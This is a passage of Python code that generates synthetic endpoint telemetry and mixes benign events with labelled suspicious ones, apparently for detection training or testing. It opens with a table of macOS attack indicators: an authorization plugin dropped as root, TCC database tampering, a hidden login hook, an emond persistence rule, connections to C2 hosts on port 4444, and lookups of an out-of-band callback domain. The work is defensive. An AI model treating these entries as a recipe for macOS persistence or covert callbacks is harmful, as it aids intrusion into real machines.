    ("auth_plugin", "f", (1, "/bin/cp", "root", "/Library/Security/SecurityAgentPlugins/Updater.bundle/Contents/MacOS/Updater", ("creation",))),
    ("tcc_db_mod", "f", (1, "/usr/bin/sqlite3", "U", "/Users/{user}/Library/Application Support/com.apple.TCC/TCC.db", ("modification",))),
    ("login_hook_script", "f", (1, "/bin/bash", "root", "/Users/Shared/.hook.sh", ("creation",))),
    ("emond_rule", "f", (1, "/bin/cp", "root", "/private/etc/emond.d/rules/update.plist", ("creation",))),
    ("osascript_netcon", "n", (1, "/usr/bin/osascript", "U", "out", C2, 443, "tcp")),
    ("unsigned_netcon", "n", (1, "/Users/Shared/.agent", "U", "out", C2, 4444, "tcp")),
    ("python_netcon_8080", "n", (1, "/usr/bin/python3", "U", "out", C2B, 8080, "tcp")),
    ("dns_ipify", "n", (1, "/usr/bin/curl", "U", "dns", "api.ipify.org", 53, "udp")),
    ("dns_oast", "n", (1, "/usr/bin/curl", "U", "dns", "c2b4a1.oast.fun", 53, "udp")),
    ("dns_script_google", "n", (1, "/usr/bin/osascript", "U", "dns", "script.google.com", 53, "udp")),
)

BENIGN = {
    "windows": {"process": WIN_PROCS, "file": WIN_FILES, "network": WIN_NET, "registry": WIN_REG},
    "linux": {"process": LINUX_PROCS, "file": LINUX_FILES, "network": LINUX_NET},
    "macos": {"process": MAC_PROCS, "file": MAC_FILES, "network": MAC_NET},
}
SUSPICIOUS = {"windows": WIN_SUSP, "linux": LINUX_SUSP, "macos": MAC_SUSP}
_KIND_OF = {"p": "process", "f": "file", "n": "network", "r": "registry"}


def _proc_action(rng, osn):
    r = rng.random()
    if osn == "windows":
        return "start" if r < 0.55 else "end"
    return "exec" if r < 0.45 else ("end" if r < 0.85 else "fork")


def benign_doc(rng):
    """(kind label, canonical doc) of one benign Defend event."""
    osn = _weighted(rng, OS_SHARES)
    kind = _weighted(rng, KIND_SHARES[osn])
    host = _pick(rng, FLEET[osn])
    spec = _wpick(rng, BENIGN[osn][kind])
    if kind == "process":
        action = _proc_action(rng, osn)
        doc = process_event(rng, host, spec, action)
    elif kind == "file":
        doc = file_event(rng, host, spec)
    elif kind == "network":
        doc = network_event(rng, host, spec)
    else:
        doc = registry_event(rng, host, spec)
    return "%s:%s:%s" % (osn, kind, doc["event"]["action"]), doc


def suspicious_doc(rng, osn, entry):
    """(kind label, canonical doc) of one suspicious Defend event."""
    label, k, spec = entry
    host = _pick(rng, FLEET[osn])
    if k == "p":
        action = "start" if osn == "windows" else "exec"
        doc = process_event(rng, host, spec, action)
    elif k == "f":
        doc = file_event(rng, host, spec)
    elif k == "n":
        doc = network_event(rng, host, spec)
    else:
        doc = registry_event(rng, host, spec)
    return "%s:%s:%s" % (osn, _KIND_OF[k], label), doc


def build_pools(rng, render, n_background, n_suspicious):
    """Two lists of (rendered text with slot markers, kind label).  Every suspicious entry
    gets at least one template; the rest are spread by SUSP_OS_SHARES."""
    background = []
    for _ in range(n_background):
        kind, doc = benign_doc(rng)
        background.append((render(doc), kind))
    suspicious = []
    entries = [(osn, e) for osn in ("windows", "linux", "macos") for e in SUSPICIOUS[osn]]
    for osn, e in entries:
        kind, doc = suspicious_doc(rng, osn, e)
        suspicious.append((render(doc), kind))
    for _ in range(max(0, n_suspicious - len(entries))):
        osn = _weighted(rng, SUSP_OS_SHARES)
        kind, doc = suspicious_doc(rng, osn, _pick(rng, SUSPICIOUS[osn]))
        suspicious.append((render(doc), kind))
    rng.shuffle(background)
    rng.shuffle(suspicious)
    return background, suspicious
